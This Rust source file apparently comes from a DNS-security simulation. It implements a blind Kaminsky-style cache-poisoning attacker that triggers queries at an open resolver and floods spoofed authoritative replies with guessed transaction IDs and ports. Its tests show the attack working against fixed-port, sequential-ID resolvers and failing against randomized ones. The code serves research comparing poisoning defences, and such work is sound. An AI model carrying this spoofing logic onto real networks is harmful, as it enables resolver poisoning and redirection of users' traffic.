//! Classic blind (Kaminsky-style) response spoofing — the weakest of the
//! poisoning strategies, included as the baseline the fragmentation and BGP
//! attacks are measured against.
//!
//! The attacker triggers a resolver query (here via the open-resolver
//! interface) and races the genuine response with a burst of forged
//! responses, guessing the resolver's TXID and source port. Against a
//! port-randomizing resolver the per-guess odds are ~2^-32; against the
//! historic fixed-port + sequential-TXID configuration the attack lands
//! quickly.

use crate::payload::poison_response;
use dnslab::name::Name;
use dnslab::server::DNS_PORT;
use dnslab::wire::{Message, Question};
use netsim::ip::Ipv4Packet;
use netsim::node::{Context, Node};
use netsim::stack::IpStack;
use netsim::time::SimDuration;
use std::net::Ipv4Addr;

const TAG_ATTEMPT: u64 = 1;

/// How the attacker guesses the resolver's query source port.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum PortGuess {
    /// The resolver is known to use one fixed port.
    Known(u16),
    /// Guess uniformly within a range.
    Range {
        /// Lowest port guessed.
        lo: u16,
        /// Highest port guessed.
        hi: u16,
    },
}

/// Configuration of a [`BlindSpoofAttacker`].
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct BlindSpoofConfig {
    /// The victim resolver (must be open for direct triggering).
    pub resolver: Ipv4Addr,
    /// The nameserver address to impersonate.
    pub nameserver: Ipv4Addr,
    /// The name to poison.
    pub qname: Name,
    /// Poison records per forged response.
    pub records: usize,
    /// Poison TTL.
    pub ttl: u32,
    /// Forged responses per attempt.
    pub burst: usize,
    /// Port-guessing strategy.
    pub port_guess: PortGuess,
    /// Whether TXIDs are guessed sequentially (vs uniformly at random).
    pub sequential_txid_guess: bool,
    /// Delay between attempts (bounded below by the poison target's TTL —
    /// while the name is cached the resolver won't re-query).
    pub attempt_interval: SimDuration,
}

/// Counters describing attacker activity.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct BlindSpoofStats {
    /// Attempts (trigger + burst) launched.
    pub attempts: u64,
    /// Total forged responses sent.
    pub forged_sent: u64,
}

/// Analytic per-attempt success probability, ignoring the race with the
/// genuine response (upper bound): each forged packet matches with
/// probability `1 / (65536 · ports)`.
pub fn per_attempt_success_probability(burst: usize, port_space: u32) -> f64 {
    let per_packet = 1.0 / (65_536.0 * f64::from(port_space));
    1.0 - (1.0 - per_packet).powi(burst as i32)
}

/// The blind-spoofing attacker node.
#[derive(Debug)]
pub struct BlindSpoofAttacker {
    stack: IpStack,
    config: BlindSpoofConfig,
    txid_cursor: u16,
    stats: BlindSpoofStats,
}

impl BlindSpoofAttacker {
    /// Creates the attacker at `addr`.
    pub fn new(addr: Ipv4Addr, config: BlindSpoofConfig) -> Self {
        BlindSpoofAttacker {
            stack: IpStack::new(addr),
            config,
            txid_cursor: 0,
            stats: BlindSpoofStats::default(),
        }
    }

    /// Activity counters.
    pub fn stats(&self) -> BlindSpoofStats {
        self.stats
    }

    fn attempt(&mut self, ctx: &mut Context<'_>) {
        self.stats.attempts += 1;
        // A sequential-TXID resolver allocates one TXID per upstream query,
        // and each attempt triggers exactly one: rebase the guess window on
        // the predicted counter value instead of sweeping blindly.
        if self.config.sequential_txid_guess {
            self.txid_cursor = self.stats.attempts as u16;
        }
        // 1. Trigger: ask the (open) resolver ourselves.
        let trigger = Message::query(ctx.rng().gen_u16(), Question::a(self.config.qname.clone()));
        let me = self.stack.addr();
        self.stack.send_udp(
            ctx,
            me,
            4444,
            self.config.resolver,
            DNS_PORT,
            &trigger.encode(),
        );
        // 2. Race: flood forged responses at guessed (txid, port) pairs.
        let query_template =
            Message::query(0, Question::a(self.config.qname.clone())).with_edns(4096);
        for _ in 0..self.config.burst {
            let txid = if self.config.sequential_txid_guess {
                let guess = self.txid_cursor;
                self.txid_cursor = self.txid_cursor.wrapping_add(1);
                guess
            } else {
                ctx.rng().gen_u16()
            };
            let port = match self.config.port_guess {
                PortGuess::Known(p) => p,
                PortGuess::Range { lo, hi } => ctx.rng().gen_range(lo..=hi),
            };
            let mut forged = poison_response(
                &Message {
                    id: txid,
                    ..query_template.clone()
                },
                self.config.records,
                self.config.ttl,
            );
            forged.flags.authoritative = true;
            self.stack.send_udp_spoofed(
                ctx,
                self.config.nameserver,
                DNS_PORT,
                self.config.resolver,
                port,
                &forged.encode(),
                None,
            );
            self.stats.forged_sent += 1;
        }
    }
}

impl Node for BlindSpoofAttacker {
    fn reset(&mut self) {
        self.stack.reset();
        self.txid_cursor = 0;
        self.stats = BlindSpoofStats::default();
    }

    fn on_start(&mut self, ctx: &mut Context<'_>) {
        self.attempt(ctx);
        ctx.set_timer(self.config.attempt_interval, TAG_ATTEMPT);
    }

    fn on_packet(&mut self, _ctx: &mut Context<'_>, _pkt: Ipv4Packet) {
        // Responses to the trigger query are irrelevant.
    }

    fn on_timer(&mut self, ctx: &mut Context<'_>, tag: u64) {
        if tag == TAG_ATTEMPT {
            self.attempt(ctx);
            ctx.set_timer(self.config.attempt_interval, TAG_ATTEMPT);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::payload::is_farm_addr;
    use dnslab::cache::CacheKey;
    use dnslab::resolver::{RecursiveResolver, ResolverConfig, SourcePortPolicy, Upstream};
    use dnslab::server::AuthServer;
    use dnslab::zone::pool_ntp_zone;
    use netsim::prelude::*;
    use netsim::time::SimTime;

    fn setup(
        resolver_cfg: ResolverConfig,
        spoof_cfg: BlindSpoofConfig,
        seed: u64,
    ) -> (World, NodeId) {
        let ns_addr = Ipv4Addr::new(203, 0, 113, 1);
        let resolver_addr = Ipv4Addr::new(198, 51, 100, 53);
        let attacker_addr = Ipv4Addr::new(198, 19, 0, 66);
        let mut world = World::new(seed);
        world.add_node(
            "auth",
            Box::new(AuthServer::new(ns_addr, vec![pool_ntp_zone(96, 2)])),
            &[ns_addr],
        );
        let res = RecursiveResolver::new(
            resolver_addr,
            vec![Upstream {
                zone: "pool.ntp.org".parse().unwrap(),
                ns_names: vec!["ns1.pool.ntp.org".parse().unwrap()],
                bootstrap: vec![ns_addr],
            }],
        )
        .with_config(resolver_cfg);
        let resolver = world.add_node("resolver", Box::new(res), &[resolver_addr]);
        world.add_node(
            "spoofer",
            Box::new(BlindSpoofAttacker::new(attacker_addr, spoof_cfg)),
            &[attacker_addr],
        );
        (world, resolver)
    }

    fn spoof_config() -> BlindSpoofConfig {
        BlindSpoofConfig {
            resolver: Ipv4Addr::new(198, 51, 100, 53),
            nameserver: Ipv4Addr::new(203, 0, 113, 1),
            qname: "pool.ntp.org".parse().unwrap(),
            records: 89,
            ttl: 86_401,
            burst: 64,
            port_guess: PortGuess::Known(3333),
            sequential_txid_guess: true,
            attempt_interval: SimDuration::from_secs(200),
        }
    }

    /// Against the historically weak resolver (fixed port, sequential TXID
    /// starting near the attacker's cursor) the attack lands fast.
    #[test]
    fn lands_against_fixed_port_sequential_txid() {
        let weak = ResolverConfig {
            source_ports: SourcePortPolicy::Fixed(3333),
            random_txid: false, // sequential from 1
            open: true,
            ..ResolverConfig::default()
        };
        let (mut world, resolver) = setup(weak, spoof_config(), 21);
        // A few attempts: each triggers a query with txid 1,2,3,... while
        // the attacker sweeps 64 sequential guesses per burst.
        world.run_for(SimDuration::from_secs(1000));
        let poisoned = world
            .node_mut::<RecursiveResolver>(resolver)
            .cache_mut()
            .get(
                SimTime::from_secs(1000),
                &CacheKey::a("pool.ntp.org".parse().unwrap()),
            )
            .map(|records| records.iter().filter_map(|r| r.as_a()).any(is_farm_addr))
            .unwrap_or(false);
        assert!(poisoned, "weak resolver poisoned within a few attempts");
    }

    /// Against port + TXID randomization the same burst budget goes nowhere
    /// (the entropy argument, demonstrated rather than proven).
    #[test]
    fn fails_against_randomized_resolver() {
        let strong = ResolverConfig {
            open: true,
            ..ResolverConfig::default()
        };
        let mut cfg = spoof_config();
        cfg.port_guess = PortGuess::Range {
            lo: 1024,
            hi: 65535,
        };
        cfg.sequential_txid_guess = false;
        let (mut world, resolver) = setup(strong, cfg, 22);
        world.run_for(SimDuration::from_secs(1000));
        let poisoned = world
            .node_mut::<RecursiveResolver>(resolver)
            .cache_mut()
            .get(
                SimTime::from_secs(1000),
                &CacheKey::a("pool.ntp.org".parse().unwrap()),
            )
            .map(|records| records.iter().filter_map(|r| r.as_a()).any(is_farm_addr))
            .unwrap_or(false);
        assert!(!poisoned);
        let stats = world.node::<RecursiveResolver>(resolver).stats();
        assert!(
            stats.rejected_txid + stats.rejected_question > 0 || stats.upstream_responses > 0,
            "forged guesses were examined and rejected"
        );
    }

    #[test]
    fn analytic_probability_sane() {
        let p_weak = per_attempt_success_probability(64, 1);
        let p_strong = per_attempt_success_probability(64, 64_512);
        assert!(p_weak > 9e-4 && p_weak < 1e-3);
        assert!(p_strong < 1e-7);
        assert!(per_attempt_success_probability(0, 1) == 0.0);
    }
}
